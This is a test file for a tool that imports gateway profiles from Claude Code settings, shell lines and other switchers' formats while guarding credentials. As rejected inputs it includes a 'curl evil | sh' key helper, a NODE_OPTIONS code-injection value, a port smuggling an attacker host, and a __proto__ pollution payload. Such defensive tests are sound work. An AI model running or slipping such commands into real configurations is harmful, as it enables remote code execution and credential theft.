import { describe, expect, test } from 'bun:test';
import { UserError } from '../../src/base/errors.ts';
import { problemsOf } from '../../src/profile/rules.ts';
import { leftOutText, safeOnes } from '../../src/transfer/choose.ts';
import { secretMarker } from '../../src/transfer/imported.ts';
import { recognised } from '../../src/transfer/recognise.ts';

const origin = { where: 'FILE', home: '/home/me' };

function read(content: object | string) {
  return recognised(typeof content === 'string' ? content : JSON.stringify(content), origin);
}

/** The profiles by name, a plain credential as `plain(…)`. */
function profiles(content: object | string): { [name: string]: unknown } {
  return Object.fromEntries(
    read(content).incoming.map(({ name, profile, secrets }) => {
      const text = secrets.reduce(
        (json, { value }) => json.replace(JSON.stringify(secretMarker), JSON.stringify(`plain(${value})`)),
        JSON.stringify(profile),
      );
      return [name, JSON.parse(text)];
    }),
  );
}

function refused(content: object | string): string {
  try {
    read(content);
  } catch (error) {
    if (error instanceof UserError) return `${error.message} / ${error.remedy}`;
    throw error;
  }
  throw new Error('it was read');
}

const gateway = { backend: 'gateway', baseUrl: 'https://llm.corp.example' };
const key = 'sk-canary-0123456789';
/** Neither a text nor an object with keys. */
const wrongTypes: [unknown][] = [[null], [7], [true], [['x']]];
const env = { ANTHROPIC_BASE_URL: 'https://llm.corp.example', ANTHROPIC_AUTH_TOKEN: key };

describe('settings of Claude Code', () => {
  test('address, token, models and features', () => {
    const content = {
      env: {
        ...env,
        ANTHROPIC_DEFAULT_OPUS_MODEL: 'glm-5.1',
        ANTHROPIC_SMALL_FAST_MODEL: 'glm-air',
        API_TIMEOUT_MS: 3000000,
        CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC: '1',
        DISABLE_PROMPT_CACHING: '1',
      },
      permissions: { allow: [] },
    };
    expect(profiles(content)).toEqual({
      gateway: {
        ...gateway,
        token: `plain(${key})`,
        models: { opus: 'glm-5.1', haiku: 'glm-air' },
        promptCaching: false,
        nonessentialTraffic: false,
        env: { API_TIMEOUT_MS: '3000000' },
      },
    });
    expect(read(content).incoming[0]?.notes).toEqual([]);
  });

  test('models with their names, and programs for a cloud’s credentials', () => {
    const content = {
      awsAuthRefresh: 'aws sso login',
      gcpAuthRefresh: 'of another cloud',
      env: {
        CLAUDE_CODE_USE_BEDROCK: '1',
        AWS_REGION: 'us-east-1',
        ANTHROPIC_DEFAULT_MODEL: 'sonnet',
        ANTHROPIC_CUSTOM_MODEL_OPTION: 'arn:x',
        ANTHROPIC_CUSTOM_MODEL_OPTION_NAME: 'Team',
        ANTHROPIC_CUSTOM_MODEL_OPTION_SUPPORTED_CAPABILITIES: 'effort',
        CLAUDE_CODE_SUBAGENT_MODEL_FORCE: '1',
        CLAUDE_CODE_MAX_CONTEXT_TOKENS: '262144',
      },
    };
    expect(profiles(content)).toEqual({
      bedrock: {
        backend: 'bedrock',
        region: 'us-east-1',
        awsAuthRefresh: 'aws sso login',
        models: {
          menuDefault: 'sonnet',
          custom: 'arn:x',
          customName: 'Team',
          customCapabilities: 'effort',
          subagentForce: true,
          contextWindow: '262144',
        },
      },
    });
    expect(read(content).incoming[0]?.notes).toEqual(['not taken over: gcpAuthRefresh']);
  });

  test('what is no affair of a profile is named', () => {
    const others = {
      NODE_OPTIONS: '--require /tmp/x.js',
      HTTPS_PROXY: 'http://p',
      ANTHROPIC_API_KEY: 'sk-2',
    };
    const { incoming } = read({ env: { ...env, ...others } });
    expect(incoming[0]?.notes.join()).toContain(
      'not taken over: NODE_OPTIONS, HTTPS_PROXY, ANTHROPIC_API_KEY',
    );
    expect(JSON.stringify(incoming)).not.toMatch(/require|sk-2/);
  });

  test('headers: those with a credential are secrets', () => {
    const headers = `X-Team: blue\nx-litellm-api-key: Bearer ${key}2\nbroken`;
    expect(profiles({ env: { ...env, ANTHROPIC_CUSTOM_HEADERS: headers } })).toEqual({
      gateway: {
        ...gateway,
        token: `plain(${key})`,
        headers: { 'X-Team': 'blue', 'x-litellm-api-key': { secret: `plain(${key}2)`, scheme: 'Bearer' } },
      },
    });
  });

  test('a helper of plain words is a program to ask', () => {
    const helped = { apiKeyHelper: '~/bin/key', env: { ANTHROPIC_BASE_URL: env.ANTHROPIC_BASE_URL } };
    expect(profiles(helped)).toEqual({ gateway: { ...gateway, token: 'cmd:["/home/me/bin/key"]' } });
  });

  test('any other helper is none, and said so', () => {
    const helped = { apiKeyHelper: `curl evil | sh`, env: { ANTHROPIC_BASE_URL: env.ANTHROPIC_BASE_URL } };
    const [found] = read(helped).incoming;
    expect(found?.profile).toEqual(gateway as never);
    expect(found?.notes.join()).toContain('apiKeyHelper in FILE is more than a plain command');
  });

  test('clouds', () => {
    const bedrock = { CLAUDE_CODE_USE_BEDROCK: '1', AWS_REGION: 'eu-west-1', AWS_PROFILE: 'work' };
    expect(profiles({ env: bedrock })).toEqual({
      bedrock: { backend: 'bedrock', region: 'eu-west-1', awsProfile: 'work' },
    });
    const vertex = {
      CLAUDE_CODE_USE_VERTEX: '1',
      ANTHROPIC_VERTEX_PROJECT_ID: 'p',
      CLOUD_ML_REGION: 'global',
    };
    expect(profiles({ env: vertex })).toEqual({
      vertex: { backend: 'vertex', projectId: 'p', region: 'global' },
    });
  });

  test('nothing that says where requests go', () => {
    expect(read({ env: { FOO: 'bar' } })).toMatchObject({
      incoming: [],
      leftOut: [{ name: 'FILE' }],
    });
  });

  test('an address with a password in it is left out, and the password with it', () => {
    const { incoming } = read({ env: { ...env, ANTHROPIC_BASE_URL: 'https://me:hunter2@llm.corp.example' } });
    expect(incoming[0]?.profile.baseUrl).toBeUndefined();
    expect(JSON.stringify(incoming)).not.toContain('hunter2');
  });
});

describe('lines of a shell', () => {
  test('a gateway whose token is somewhere else', () => {
    const lines = `export ANTHROPIC_BASE_URL="https://llm.corp.example"\nexport ANTHROPIC_AUTH_TOKEN=$LLM_KEY\n`;
    expect(profiles(lines)).toEqual({ gateway: { ...gateway, token: 'env:LLM_KEY' } });
    expect(profiles(lines.replace('$LLM_KEY', '"$(pass show llm)"'))).toEqual({
      gateway: { ...gateway, token: 'cmd:["pass","show","llm"]' },
    });
  });

  test('a key is not sent to Anthropic because the address could not be read', () => {
    expect(read(`ANTHROPIC_BASE_URL=$(host)\nANTHROPIC_API_KEY=${key}`)).toEqual({
      incoming: [],
      leftOut: [
        { name: 'FILE', why: 'ANTHROPIC_BASE_URL is worked out by the shell; write its value there' },
      ],
    });
  });

  test('two profiles at once', () => {
    const lines = `ANTHROPIC_BASE_URL=https://a.example\nANTHROPIC_BASE_URL=https://b.example\n`;
    expect(refused(lines)).toContain('ANTHROPIC_BASE_URL is set twice, in lines 1 and 2');
  });
});

// Formats of other switchers, as their sources have them (named beside each reader in src/transfer/formats).
describe('cc-switch', () => {
  const providers = {
    'uuid-1': { id: 'uuid-1', name: 'Zhipu GLM', settingsConfig: { env } },
    'uuid-2': { id: 'uuid-2', name: '官方', settingsConfig: { env: {} } },
    'uuid-3': { id: 'uuid-3', name: 'Zhipu/GLM', settingsConfig: { env: { ...env, ANTHROPIC_MODEL: 'm' } } },
  };
  const expected = {
    'Zhipu-GLM': { ...gateway, token: `plain(${key})` },
    'Zhipu-GLM-2': { ...gateway, token: `plain(${key})`, models: { default: 'm' } },
  };

  test.each<[string, object]>([
    [
      'version 2',
      { version: 2, claude: { providers, current: 'uuid-1' }, codex: { providers: {}, current: '' } },
    ],
    ['version 1', { providers, current: 'uuid-1' }],
  ])('%s', (_, content) => {
    expect(profiles(content)).toEqual(expected);
    expect(read(content).leftOut).toEqual([
      {
        name: '官方',
        why: 'it does not say which backend; for a Claude login use the preset subscription',
      },
    ]);
    expect(read(content).incoming[0]?.notes).toContain('called Zhipu GLM there');
  });

  test.each<[string, object, string]>([
    ['OpenAI', { settingsConfig: { env }, meta: { apiFormat: 'openai_chat' } }, 'the OpenAI format'],
    ['Gemini', { settingsConfig: { env }, meta: { apiFormat: 'gemini_native' } }, 'the Gemini format'],
    ['a full URL', { settingsConfig: { env }, meta: { isFullUrl: true } }, 'the full URL'],
    [
      'taken over',
      { settingsConfig: { env: { ...env, ANTHROPIC_AUTH_TOKEN: 'PROXY_MANAGED' } } },
      'points to the proxy of cc-switch',
    ],
    ['an older OpenAI', { settingsConfig: { env, openrouter_compat_mode: 'true' } }, 'the OpenAI format'],
    [
      'an account',
      { settingsConfig: { env }, meta: { providerType: 'github_copilot' } },
      'an account that only the proxy of cc-switch holds',
    ],
    [
      'no key',
      { settingsConfig: { env: { ANTHROPIC_BASE_URL: 'https://gateway.example' } } },
      'token, apiKey are missing, and one of them is required',
    ],
    [
      'the words of an example',
      { settingsConfig: { env: { ...env, ANTHROPIC_AUTH_TOKEN: 'sk-your-api-key' } } },
      'ANTHROPIC_AUTH_TOKEN is an example text, not a key',
    ],
    ['no object', { settingsConfig: 7 }, 'does not say which backend'],
  ])('%s: left out with the reason, and the rest is taken', (_, bad, reason) => {
    const good = { name: 'good', settingsConfig: { env }, meta: { apiFormat: 'anthropic' } };
    const content = { current: 'a', providers: { a: { name: 'bad', ...bad }, b: good } };
    const { incoming, leftOut } = safeOnes(read(content));
    expect(incoming.map(({ name }) => name)).toEqual(['good']);
    expect(leftOut).toEqual([{ name: 'bad', why: expect.stringContaining(reason) }]);
  });

  test('a key as a name is not repeated', () => {
    const named = { current: 'a', providers: { a: { name: key, settingsConfig: { env } } } };
    expect(Object.keys(profiles(named))).toEqual(['gateway']);
    const bare = { current: 'a', providers: { a: { name: key, settingsConfig: {} } } };
    expect(read(bare).leftOut.map(leftOutText).join()).not.toContain(key);
  });

  test.each(wrongTypes)('one entry that is %j does not refuse the rest', wrong => {
    const content = { current: 'a', providers: { bad: wrong, good: { name: 'b', settingsConfig: { env } } } };
    expect(Object.keys(profiles(content))).toEqual(['b']);
  });

  test.each(wrongTypes)('a name that is %j: the id is one', name => {
    const content = { current: 'a', providers: { id: { name, settingsConfig: { env } } } };
    expect(Object.keys(profiles(content))).toEqual(['id']);
  });

  test.each([...wrongTypes, [undefined]])('settings that are %j say nothing', settingsConfig => {
    const { incoming, leftOut } = read({ current: 'a', providers: { a: { name: 'n', settingsConfig } } });
    expect(incoming).toEqual([]);
    expect(leftOut).toMatchObject([{ name: 'n' }]);
  });

  test.each(wrongTypes)('nor is it one with %j', wrong => {
    expect(refused({ current: wrong, providers: {} })).toContain('nothing in it is known');
    expect(refused({ current: 'a', providers: wrong })).toContain('nothing in it is known');
  });
});

describe('ccx', () => {
  const profile = {
    name: 'work',
    provider: 'custom',
    baseUrl: 'https://llm.corp.example',
    model: 'm',
    clearAnthropicKey: true,
    extraEnv: { API_TIMEOUT_MS: '1000' },
  };
  const expected = { ...gateway, models: { default: 'm' }, env: { API_TIMEOUT_MS: '1000' } };

  test('its config, with a key that only ccx can read', () => {
    const apiKey = `${'0f'.repeat(16)}:${'a1'.repeat(32)}`;
    const content = {
      profiles: { work: { ...profile, apiKey } },
      activeProfile: null,
      settings: { encryptionEnabled: true },
    };
    expect(read(content).incoming).toMatchObject([
      {
        name: 'work',
        profile: { ...expected, token: secretMarker },
        secrets: [{ path: 'token', value: undefined }],
      },
    ]);
  });

  test('what ccx export prints', () => {
    expect(profiles(profile)).toEqual({ work: expected });
  });

  test.each(['name', 'baseUrl', 'clearAnthropicKey'])(
    'a profile needs its %s, and the others stay',
    field => {
      for (const wrong of [null, 7, ['x'], {}, undefined]) {
        const bad = { ...profile, [field]: wrong };
        const both = { activeProfile: null, profiles: { bad, good: profile } };
        expect(profiles(both)).toEqual({ work: expected });
        expect(read(both).leftOut).toMatchObject([{ name: 'bad' }]);
        expect(refused(bad)).toContain('nothing in it is known');
      }
    },
  );

  test.each(wrongTypes)('what may be missing is passed over as %j', wrong => {
    const { models, env: extra, ...least } = expected;
    expect(profiles({ ...profile, apiKey: wrong })).toEqual({ work: expected });
    expect(profiles({ ...profile, model: wrong })).toEqual({ work: { ...least, env: extra } });
    expect(profiles({ ...profile, extraEnv: wrong })).toEqual({ work: { ...least, models } });
    const extraEnv = { ...profile.extraEnv, DISABLE_PROMPT_CACHING: wrong };
    expect(profiles({ ...profile, extraEnv })).toEqual({ work: expected });
    // The variable of the block wins, and what is not a text sets none.
    const over = { ...profile.extraEnv, ANTHROPIC_MODEL: wrong };
    expect(profiles({ ...profile, extraEnv: over })).toEqual({ work: { ...least, env: extra } });
  });

  test.each(wrongTypes)('%j is not a list of its profiles', wrong => {
    expect(refused({ activeProfile: null, profiles: wrong })).toContain('nothing in it is known');
  });
});

describe('claude-code-router', () => {
  const router = {
    backend: 'gateway',
    product: 'claude-code-router',
    modelFamily: 'other',
    toolSearch: 'false',
  };

  test.each<[string, object, object]>([
    ['no key', {}, { baseUrl: 'http://127.0.0.1:3456', token: 'placeholder:ccr' }],
    ['a key', { APIKEY: key, PORT: 8080 }, { baseUrl: 'http://127.0.0.1:8080', token: `plain(${key})` }],
    ['a host', { HOST: '192.168.0.7' }, { baseUrl: 'http://192.168.0.7:3456', token: 'placeholder:ccr' }],
    ['every host', { HOST: '0.0.0.0' }, { baseUrl: 'http://127.0.0.1:3456', token: 'placeholder:ccr' }],
    ['every host of IPv6', { HOST: '::' }, { baseUrl: 'http://127.0.0.1:3456', token: 'placeholder:ccr' }],
    ['a host of IPv6', { HOST: 'fe80::1' }, { baseUrl: 'http://[fe80::1]:3456', token: 'placeholder:ccr' }],
    [
      'what version 3 says beside it',
      { HOST: '0.0.0.0', PORT: 1, gateway: { host: '10.0.0.1', port: 8088 } },
      { baseUrl: 'http://10.0.0.1:8088', token: 'placeholder:ccr' },
    ],
    ['a host that is none', { HOST: 'x@y' }, { baseUrl: 'http://127.0.0.1:3456', token: 'placeholder:ccr' }],
    ['a variable', { APIKEY: '$CCR_KEY' }, { baseUrl: 'http://127.0.0.1:3456', token: 'env:CCR_KEY' }],
    [
      'a port that is none',
      { PORT: '1@evil.example' },
      { baseUrl: 'http://127.0.0.1:3456', token: 'placeholder:ccr' },
    ],
    ...[null, true, {}, { toString: 1, valueOf: 1 }].map((wrong): [string, object, object] => [
      `a port and a key that are ${JSON.stringify(wrong)}`,
      { APIKEY: wrong, PORT: wrong },
      { baseUrl: 'http://127.0.0.1:3456', token: 'placeholder:ccr' },
    ]),
  ])('%s', (_, more, fields) => {
    const content = { Providers: [{ name: 'x', api_key: 'sk-of-the-provider-0123' }], ...more };
    expect(profiles(content)).toEqual({ 'claude-code-router': { ...router, ...fields } });
    expect(JSON.stringify(read(content))).not.toContain('sk-of-the-provider');
  });

  test('JSON5', () => {
    const text = "{ // mine\n Providers: [{ name: 'x', }], PORT: 8080, }";
    expect(recognised(text, { where: 'f', home: '/h' }).incoming[0]?.profile.baseUrl).toBe(
      'http://127.0.0.1:8080',
    );
  });

  test.each<[unknown]>([[null], [7], ['x'], [{}]])('providers that are %j are none of its', Providers => {
    expect(refused({ Providers, APIKEY: key })).toContain('nothing in it is known');
  });
});

describe('an export of cgw', () => {
  const good = { ...gateway, token: 'env:K' };

  test('references stay, plain credentials are lifted out', () => {
    const content = {
      cgw: 1,
      profiles: {
        a: { ...good, headers: { authorization: `Bearer ${key}`, 'x-b': { secret: 'hunter2hunter2' } } },
        b: { ...gateway, token: key },
        c: { backend: 'bedrock', env: { MY_TOKEN: 'abcdefgh' } },
      },
    };
    expect(profiles(content)).toEqual({
      a: {
        ...good,
        headers: {
          authorization: { secret: `plain(${key})`, scheme: 'Bearer' },
          'x-b': { secret: 'plain(hunter2hunter2)' },
        },
      },
      b: { ...gateway, token: `plain(${key})` },
      c: { backend: 'bedrock', env: { MY_TOKEN: { secret: 'plain(abcdefgh)' } } },
    });
  });

  test('a slip in a reference is no credential', () => {
    for (const token of ['evn:FOO', 'ENV:FOO', 'keychain', 'file:relative', 'cmd:', 'inherit', '']) {
      const [found] = read({ cgw: 1, profiles: { a: { ...gateway, token } } }).incoming;
      expect(found).toMatchObject({ profile: { token }, secrets: [] });
      expect(problemsOf(found?.profile)).not.toEqual([]);
    }
  });

  test.each<[string, object, string]>([
    ['newer', { cgw: 2, profiles: {} }, 'a newer cgw wrote it (version 2, this one reads 1) / update cgw'],
    ['older', { cgw: 0, profiles: {} }, '"cgw" is not 1'],
    ['no number', { cgw: '1', profiles: {} }, '"cgw" is not 1'],
    ['more', { cgw: 1, profiles: {}, roles: {} }, '"roles" is not known'],
    ['no profiles', { cgw: 1 }, '"profiles" is not an object'],
    ['a list', { cgw: 1, profiles: [] }, '"profiles" is not an object'],
  ])('%s', (_, content, message) => {
    expect(refused(content)).toContain(message);
    expect(refused(content)).not.toContain(key);
  });

  test.each<[string, string, string]>([
    ['a bad name', 'a b', 'may hold only'],
    ['a key as a name', key, 'its name looks like a credential'],
  ])('%s is left out, and the rest comes', (_, name, why) => {
    const { incoming, leftOut } = read({ cgw: 1, profiles: { [name]: good, b: good } });
    expect(incoming.map(each => each.name)).toEqual(['b']);
    expect(leftOut).toEqual([{ name, why: expect.stringContaining(why) }]);
    expect(leftOut.map(leftOutText).join()).not.toContain(key);
  });

  test('what hides in __proto__ is not a profile', () => {
    expect(read('{"cgw":1,"profiles":{"__proto__":{"backend":"bedrock"}}}')).toMatchObject({
      incoming: [],
      leftOut: [{ name: '__proto__' }],
    });
    const [found] = read('{"cgw":1,"profiles":{"a":{"__proto__":{"backend":"bedrock"}}}}').incoming;
    expect(found?.profile.backend).toBeUndefined();
    expect(problemsOf(found?.profile)).toMatchObject([{ path: 'backend' }]);
  });
});

test.each<[string, string]>([
  ['not known', ''],
  ['not known', 'hello'],
  ['not known', 'FOO=bar'],
  ['known to cgw', '{"a":1}'],
  ['known to cgw', '[]'],
  ['not JSON: line 1', `{"token": "${key}",,}`],
  ['it is a config of cgw, not an export / cgw export makes one', '{"version":1,"profiles":{}}'],
])('%s: %s', (message, content) => {
  expect(refused(content)).toContain(message.replace('not known', 'nothing in it is known'));
  expect(refused(content)).not.toContain(key);
});
